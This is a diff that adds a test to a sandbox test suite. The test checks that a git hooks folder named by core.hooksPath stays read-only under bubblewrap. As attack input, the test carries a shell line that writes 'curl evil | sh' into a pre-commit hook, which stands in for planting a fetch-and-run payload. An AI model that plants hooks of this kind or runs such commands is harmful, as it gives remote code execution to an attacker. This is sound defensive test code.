@@ -113,6 +113,17 @@ describe.skipIf(!tools.ok)('the sandbox plan, under the real bubblewrap', () => 
     expect(readFileSync(join(inner, 'keys', 'ed25519.key.pem'), 'utf8')).toBe('SECRET KEY\n');
   });
 
+  it('keeps the folder core.hooksPath names read-only, in a writable worktree too', async () => {
+    spawnSync('git', ['config', 'core.hooksPath', '.husky/_'], { cwd: wt });
+    mkdirSync(join(wt, '.husky', '_'), { recursive: true });
+    const { gitControlPaths } = await import('../../../src/runtime/protected-paths.js');
+    const { spec } = plan({ allow: ['*.md'], protect: gitControlPaths(wt) });
+    const r = inside(spec, 'echo "curl evil | sh" > .husky/_/pre-commit; mv .husky .h2; echo end');
+    expect(r.out).toContain('Read-only file system');
+    expect(existsSync(join(wt, '.husky', '_', 'pre-commit'))).toBe(false);
+    expect(existsSync(join(wt, '.husky'))).toBe(true);
+  });
+
   it("hides browser profiles (a signed-in dashboard's cookie) and what the config's sandbox.hide names", () => {
     const wtHome = join(wt, 'home-in-worktree');
     for (const [rel, body] of [['.config/chromium/Default/Cookies', 'COOKIE'], ['.ssh/id_ed25519', 'SSH KEY'], ['.netrc', 'NETRC']] as const) {
